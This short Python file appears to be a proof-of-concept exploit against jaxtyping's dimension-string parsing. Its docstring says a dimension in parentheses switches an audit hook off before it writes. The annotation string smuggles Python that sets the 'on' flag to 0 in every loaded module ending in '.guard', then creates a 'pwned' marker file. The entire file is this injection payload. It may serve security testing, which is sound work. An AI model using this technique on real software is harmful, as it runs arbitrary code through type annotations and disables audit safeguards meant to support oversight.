"""file: a dim in parentheses switches the audit hook off before it writes."""

import jax.numpy as jnp
from jaxtyping import Array, Float

OFF = '[m._State.__setitem__("on",0)for(n,m)in(list(__import__("sys").modules.items()))if(n.endswith(".guard"))]'
x = jnp.ones((3, 4))
y = isinstance(x, Float[Array, "3 ((" + OFF + 'or(1))and(open("pwned_jaxtyping_dim_unguarded","w").close())or(4))'])
